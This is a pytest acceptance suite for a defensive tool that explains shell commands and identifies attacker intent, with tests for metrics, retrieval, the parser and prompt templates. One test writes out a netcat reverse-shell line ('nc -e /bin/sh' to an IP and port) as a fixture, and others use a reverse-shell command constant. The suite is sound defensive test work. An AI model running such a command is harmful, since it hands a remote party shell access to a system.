"""Acceptance suite: one test per release criterion, each printing a
pass/fail line.  Everything runs offline against the committed fixtures,
the bundled catalog, the offline embedder, and the stub chat backend."""

from __future__ import annotations

import json
import random
import time
from contextlib import contextmanager

import pytest

from cmdlens.doccorpus import (
    ChunkRule, RetrievalTriple, build_ground_truth, generate_commands,
    ingest_man_dir, make_triples, split_dataset,
)
from cmdlens.embedding import OfflineEmbedder
from cmdlens.errors import EmptyCommand, UnterminatedQuote
from cmdlens.intent import (
    BehaviorDescription, MatchConfig, Tactic, Technique, TechniqueCatalog,
    identify_intent, identify_tactic,
)
from cmdlens.retrieval import ScoredPair, auc_roc, evaluate_retrieval
from cmdlens.shellparse import Dialect, parse
from cmdlens.stemmer import stem
from cmdlens.textmetrics import TokenSeq, bleu4, cider, meteor, rouge_l, rouge_n
from conftest import DATA_DIR, REVERSE_SHELL_CMD
from oracles import (
    auc_enumeration_oracle, bleu4_oracle, brute_force_tactic_ranking,
    brute_force_technique_ranking, cider_oracle, meteor_oracle, rouge_l_oracle,
    rouge_n_oracle,
)


@contextmanager
def criterion(name: str):
    try:
        yield
    except BaseException:
        print(f"[FAIL] {name}")
        raise
    print(f"[PASS] {name}")


def ws(text: str) -> TokenSeq:
    return TokenSeq(tuple(text.split()), "whitespace")


METRIC_PAIRS = [
    ("the cat sat on the mat", "the cat sat on the mat"),
    ("the cat", "the cat sat"),
    ("a b c d", "a c b d"),
    ("the cat sat", "the sat cat"),
    ("one two three four five six", "one two three four seven eight"),
    ("alpha beta gamma", "delta epsilon zeta"),
    ("files are listed by the tool", "the tool lists all files in the directory"),
    ("listing files quickly", "list file quick"),
]


def test_metric_oracles():
    """Each metric matches its independent oracle on >= 5 fixture pairs at
    1e-9, identities hit the formula maxima, and the whole check runs in
    under five seconds."""
    started = time.monotonic()
    with criterion("metric oracles (ROUGE-1/2/L, BLEU-4, METEOR, CIDEr)"):
        for cand_text, ref_text in METRIC_PAIRS:
            cand, ref = ws(cand_text), ws(ref_text)
            ct, rt = cand_text.split(), ref_text.split()
            assert abs(rouge_n(cand, ref, 1)[2] - rouge_n_oracle(ct, rt, 1)[2]) <= 1e-9
            assert abs(rouge_n(cand, ref, 2)[2] - rouge_n_oracle(ct, rt, 2)[2]) <= 1e-9
            assert abs(rouge_l(cand, ref)[2] - rouge_l_oracle(ct, rt)[2]) <= 1e-9
            assert abs(bleu4(cand, [ref]) - bleu4_oracle(ct, [rt])) <= 1e-9
            assert abs(meteor(cand, ref) - meteor_oracle(ct, rt, stem)) <= 1e-9

        cands = [ws(c) for c, _ in METRIC_PAIRS]
        refs = [[ws(r)] for _, r in METRIC_PAIRS]
        got = cider(cands, refs)
        want = cider_oracle([c.split() for c, _ in METRIC_PAIRS],
                            [[r.split()] for _, r in METRIC_PAIRS])
        assert abs(got - want) <= 1e-9
        for k in (3, 5):
            sub = METRIC_PAIRS[:k]
            got_k = cider([ws(c) for c, _ in sub], [[ws(r)] for _, r in sub])
            want_k = cider_oracle([c.split() for c, _ in sub],
                                  [[r.split()] for _, r in sub])
            assert abs(got_k - want_k) <= 1e-9

        identity = "the analyst reviews every alerted command early"
        seq = ws(identity)
        assert rouge_n(seq, seq, 1)[2] == pytest.approx(1.0, abs=1e-9)
        assert rouge_n(seq, seq, 2)[2] == pytest.approx(1.0, abs=1e-9)
        assert rouge_l(seq, seq)[2] == pytest.approx(1.0, abs=1e-9)
        assert bleu4(seq, [seq]) == pytest.approx(1.0, abs=1e-9)
        m = len(seq.tokens)
        assert meteor(seq, seq) == pytest.approx(1 - 0.5 / m ** 3, abs=1e-9)
        assert cider([seq], [[seq]]) == pytest.approx(10.0, abs=1e-9)
        assert time.monotonic() - started < 5.0


def _random_catalog(rng: random.Random) -> TechniqueCatalog:
    n_tactics = rng.randint(1, 14)
    n_techniques = rng.randint(n_tactics, 196)
    tactics = [Tactic(id=f"TA{i:04d}", name=f"tactic {i}")
               for i in range(1, n_tactics + 1)]
    vocabulary = [f"term{i}" for i in range(240)]
    techniques = []
    for i in range(n_techniques):
        suffix = ".001" if rng.random() < 0.15 else ""
        tech_id = f"T{1000 + i}{suffix}"
        description = " ".join(rng.choices(vocabulary, k=rng.randint(3, 12)))
        if i < n_tactics:
            tactic_ids = (tactics[i].id,)
        else:
            tactic_ids = tuple(sorted(rng.sample(
                [t.id for t in tactics], k=rng.randint(1, min(3, n_tactics)))))
        techniques.append(Technique(id=tech_id, name=f"tech {i}",
                                    description=description,
                                    tactic_ids=tactic_ids))
    return TechniqueCatalog(techniques=sorted(techniques, key=lambda t: t.id),
                            tactics=tactics)


def test_intent_brute_force_equivalence():
    """100 randomized catalogs (sizes up to 196 techniques / 14 tactics):
    the ranked output equals an independent brute-force computation
    bit-for-bit, in under thirty seconds."""
    started = time.monotonic()
    with criterion("technique/tactic identification vs brute force (100 catalogs)"):
        rng = random.Random(20240813)
        provider = OfflineEmbedder(dim=64, seed=1)
        vocabulary = [f"term{i}" for i in range(240)]
        for _ in range(100):
            catalog = _random_catalog(rng)
            text = " ".join(rng.choices(vocabulary, k=rng.randint(3, 15)))
            k = rng.randint(1, 5)
            prediction = identify_intent(BehaviorDescription(text=text), catalog,
                                         provider, MatchConfig(k=k))
            oracle_techniques = brute_force_technique_ranking(text, catalog, provider)
            oracle_tactics = brute_force_tactic_ranking(oracle_techniques, catalog, k)
            assert prediction.technique_ranking == oracle_techniques
            assert prediction.tactic_ranking == oracle_tactics
        assert time.monotonic() - started < 30.0


def test_monotone_invariance():
    """Positive affine transforms of technique scores leave the top
    technique and (for fixed k) the top tactic unchanged, 1,000 trials."""
    with criterion("monotone invariance of argmaxes under a*x+b (1,000 trials)"):
        rng = random.Random(99)
        catalogs = [_random_catalog(rng) for _ in range(10)]
        for trial in range(1000):
            catalog = catalogs[trial % len(catalogs)]
            scores = [(t.id, rng.random()) for t in catalog.techniques]
            scores.sort(key=lambda r: (-r[1], r[0]))
            k = rng.randint(1, 5)
            base_tactics = identify_tactic(scores, catalog, MatchConfig(k=k))
            a = rng.uniform(1e-3, 10.0)
            b = rng.uniform(-5.0, 5.0)
            moved = [(tid, a * s + b) for tid, s in scores]
            moved.sort(key=lambda r: (-r[1], r[0]))
            moved_tactics = identify_tactic(moved, catalog, MatchConfig(k=k))
            assert moved[0][0] == scores[0][0]
            assert moved_tactics[0][0] == base_tactics[0][0]


def test_auc_oracle():
    """Rank-based AUC equals pairwise enumeration exactly on 50 random
    score sets with ties; the perfect / inverted / constant cases give
    1.0 / 0.0 / 0.5."""
    with criterion("AUC-ROC vs pairwise enumeration oracle"):
        rng = random.Random(555)
        for _ in range(50):
            n = rng.randint(4, 60)
            tie_pool = [round(rng.random(), 1) for _ in range(4)]
            pairs = [ScoredPair(score=rng.choice(tie_pool + [rng.random()]),
                                label=rng.randint(0, 1)) for _ in range(n)]
            if not any(p.label == 1 for p in pairs):
                pairs[0] = ScoredPair(pairs[0].score, 1)
            if not any(p.label == 0 for p in pairs):
                pairs[-1] = ScoredPair(pairs[-1].score, 0)
            assert auc_roc(pairs) == auc_enumeration_oracle(pairs)

        perfect = [ScoredPair(0.9, 1), ScoredPair(0.7, 1), ScoredPair(0.3, 0)]
        assert auc_roc(perfect) == 1.0
        inverted = [ScoredPair(p.score, 1 - p.label) for p in perfect]
        assert auc_roc(inverted) == 0.0
        constant = [ScoredPair(0.4, 1)] * 3 + [ScoredPair(0.4, 0)] * 5
        assert auc_roc(constant) == 0.5


def _fixture_triples() -> list[RetrievalTriple]:
    docs, chunks = ingest_man_dir(DATA_DIR / "man_pages", ChunkRule.words(200))
    commands: list[str] = []
    for i, doc in enumerate(docs):
        commands.extend(generate_commands(doc, n=30, max_options=2, seed=7 + i))
    truth = build_ground_truth(commands, chunks)
    return make_triples(commands, chunks, truth, negatives_per_positive=1, seed=7)


def test_retrieval_separation():
    """On the committed five-utility corpus the offline lexical embedder
    reaches AUC >= 0.95, and randomly permuted labels sit at 0.5 +- 0.05
    averaged over 20 seeds."""
    with criterion("retrieval separation on the 5-utility corpus"):
        provider = OfflineEmbedder(dim=512, seed=0)
        triples = _fixture_triples()
        report = evaluate_retrieval(triples, provider)
        assert report["auc"] >= 0.95

        labels = [t.label for t in triples]
        aucs = []
        for seed in range(20):
            rng = random.Random(1000 + seed)
            permuted = labels[:]
            rng.shuffle(permuted)
            shuffled = [RetrievalTriple(t.command, t.doc, lab)
                        for t, lab in zip(triples, permuted)]
            aucs.append(evaluate_retrieval(shuffled, provider)["auc"])
        mean = sum(aucs) / len(aucs)
        assert abs(mean - 0.5) <= 0.05


def test_dataset_pipeline_reproduction():
    """Labels match an independent construction oracle with zero
    violations, the 9:0.5:0.5 split holds at group level with no command
    overlap, and the whole pipeline is deterministic under a fixed seed."""
    with criterion("dataset pipeline: label soundness, 9:0.5:0.5 split, determinism"):
        def run_pipeline():
            docs, chunks = ingest_man_dir(DATA_DIR / "man_pages", ChunkRule.words(200))
            commands: list[str] = []
            for i, doc in enumerate(docs):
                commands.extend(generate_commands(doc, n=25, max_options=2,
                                                  seed=100 + i))
            truth = build_ground_truth(commands, chunks)
            triples = make_triples(commands, chunks, truth,
                                   negatives_per_positive=1, seed=100)
            splits = split_dataset(triples, (0.9, 0.05, 0.05), seed=100)
            return triples, splits

        triples, (train, val, test) = run_pipeline()

        # independent label oracle: a chunk belongs to a command exactly when
        # it is the utility's description or one of the used options' chunks
        violations = 0
        for t in triples:
            tokens = t.command.split()
            utility, options = tokens[0], set(tokens[1:])
            is_member = (t.doc.utility == utility and
                         (t.doc.origin == "description"
                          or (t.doc.origin.startswith("option:")
                              and t.doc.origin[len("option:"):] in options)))
            if t.label != (1 if is_member else 0):
                violations += 1
        assert violations == 0

        groups = {t.command for t in triples}
        g = len(groups)
        train_groups = {t.command for t in train}
        val_groups = {t.command for t in val}
        test_groups = {t.command for t in test}
        assert len(train_groups) == round(0.9 * g)
        assert len(train_groups) + len(val_groups) == round(0.95 * g)
        assert len(test_groups) == g - round(0.95 * g)
        assert not (train_groups & val_groups)
        assert not (train_groups & test_groups)
        assert not (val_groups & test_groups)

        again, (train2, val2, test2) = run_pipeline()
        assert again == triples
        assert (train2, val2, test2) == (train, val, test)


def test_parser_golden_corpus_and_fuzz():
    """The 20-command golden corpus (including the reverse-shell example)
    parses to the committed structures; 10,000 fuzzed inputs raise only
    the defined errors."""
    with criterion("parser golden corpus (20 commands) + 10,000-input fuzz"):
        golden = json.loads((DATA_DIR / "golden_commands.json").read_text("utf-8"))
        assert len(golden) == 20
        assert any(case["source"] == REVERSE_SHELL_CMD for case in golden)
        for case in golden:
            cmd = parse(case["source"], Dialect(case["dialect"]))
            assert [s.name.lower() for s in cmd.separators] == case["separators"]
            assert len(cmd.units) == len(case["units"])
            for unit, expected in zip(cmd.units, case["units"]):
                assert unit.utility == expected["utility"]
                assert unit.options == expected["options"]
                assert unit.parameters == expected["parameters"]
                assert unit.redirections == expected["redirections"]

        rng = random.Random(424242)
        for _ in range(10_000):
            length = rng.randrange(0, 60)
            raw = bytes(rng.randrange(256) for _ in range(length))
            text = raw.decode("utf-8", errors="replace")
            try:
                parse(text)
            except (UnterminatedQuote, EmptyCommand):
                pass


def test_end_to_end_determinism(tmp_path, catalog_path, index, provider, catalog):
    """Explaining the reverse-shell fixture with the stub backend and the
    offline provider is byte-stable across two runs and a service restart,
    and the intent top-1 equals the catalog's Unix Shell entry per the
    brute-force oracle."""
    with criterion("end-to-end determinism + Unix Shell intent on reverse shell"):
        from fastapi.testclient import TestClient
        from cmdlens.config import Config
        from cmdlens.retrieval import save_index
        from cmdlens.service import build_app

        index_path = tmp_path / "index.bin"
        save_index(index, index_path)
        cfg = Config()
        cfg.catalog_path = str(catalog_path)
        cfg.index_path = str(index_path)
        cfg.session_store_path = str(tmp_path / "sessions")
        cfg.embed.dim = provider.dim
        cfg.embed.seed = provider.seed

        client = TestClient(build_app(cfg), raise_server_exceptions=False)
        first = client.post("/v1/explain", json={"command": REVERSE_SHELL_CMD})
        second = client.post("/v1/explain", json={"command": REVERSE_SHELL_CMD})
        assert first.status_code == second.status_code == 200
        assert first.content == second.content

        restarted = TestClient(build_app(cfg), raise_server_exceptions=False)
        third = restarted.post("/v1/explain", json={"command": REVERSE_SHELL_CMD})
        assert third.content == first.content

        body = first.json()
        top_technique = body["intent"]["technique_ranking"][0][0]
        oracle = brute_force_technique_ranking(body["overall"], catalog, provider)
        assert top_technique == oracle[0][0]
        unix_shell = next(t for t in catalog.techniques if t.name == "Unix Shell")
        assert top_technique == unix_shell.id
        assert body["intent"]["tactic_ranking"][0][0] == "TA0002"


PROMPT_SENTINELS = {
    "dataset_atomic_red_team.txt": (
        "explain step by step the meaning of each step and each parameter",
        "give suggestions on how to dispose of the command"),
    "dataset_metta.txt": (
        "determine whether the command is potentially malicious code",),
    "dataset_nl2bash.txt": (
        "as well as the overall intent of the command",),
    "dataset_the_stack.txt": (
        "analyse the overall intent of the command",),
    "dataset_reverse_shell.txt": (
        "specifically, whether it is a reverse shell",),
    "knowledge_infused.txt": (
        "Please refer to the command documentations and command descriptions",
        "Command documentation:", "Command description:"),
    "question_augmentation.txt": (
        "Ask as many different questions as possible about the following command",
        "one question per line"),
    "behavior_description.txt": (
        "Very briefly describe what adversaries attempt to do by the following shell command",
        "follow the style of the following DESCRIPTION"),
}


def test_prompt_snapshots():
    """Every prompt builder reproduces its golden file byte-for-byte, and
    each golden carries its required instruction sentence."""
    with criterion("prompt golden snapshots (8 templates)"):
        from cmdlens.doccorpus import DocChunk
        from cmdlens.intent import build_behavior_description_prompt
        from cmdlens.prompts import (CommandMeta, build_knowledge_prompt,
                                     build_question_augmentation_prompt,
                                     dataset_prompt)
        from cmdlens.retrieval import RetrievalResult

        docs = [
            RetrievalResult(chunk=DocChunk(
                chunk_id="aaa", utility="bash", origin="option:-c",
                text="-c read and execute commands from the first non-option "
                     "argument command_string, then exit", ordinal=1),
                score=0.42, rank=1),
            RetrievalResult(chunk=DocChunk(
                chunk_id="bbb", utility="sh", origin="description",
                text="sh reads commands from a script or from standard input "
                     "and carries them out.", ordinal=0),
                score=0.31, rank=2),
        ]
        meta = CommandMeta(technique="T1059.004 Unix Shell",
                           name="reverse shell over /dev/tcp",
                           description="Connects the shell to a remote socket.",
                           source="reverse-shell")
        built = {
            "knowledge_infused.txt": build_knowledge_prompt(
                "Please describe " + REVERSE_SHELL_CMD, docs, meta),
            "question_augmentation.txt":
                build_question_augmentation_prompt(REVERSE_SHELL_CMD),
            "dataset_atomic_red_team.txt":
                dataset_prompt("atomic-red-team", REVERSE_SHELL_CMD, docs, meta),
            "dataset_metta.txt":
                dataset_prompt("metta", REVERSE_SHELL_CMD, docs, meta),
            "dataset_nl2bash.txt": dataset_prompt(
                "nl2bash", "ls --color -t", docs,
                CommandMeta(description="list files sorted by time with color")),
            "dataset_the_stack.txt": dataset_prompt("the-stack", "ls --color -t"),
            "dataset_reverse_shell.txt":
                dataset_prompt("reverse-shell", REVERSE_SHELL_CMD),
            "behavior_description.txt": build_behavior_description_prompt(
                REVERSE_SHELL_CMD, "nc -e /bin/sh 10.0.0.5 4444",
                "Adversaries may use a utility to spawn an interactive shell "
                "wired to a remote listener."),
        }
        for name, text in built.items():
            golden = (DATA_DIR / "prompts" / name).read_text(encoding="utf-8")
            assert text == golden, name
            for sentinel in PROMPT_SENTINELS[name]:
                assert sentinel in golden, (name, sentinel)
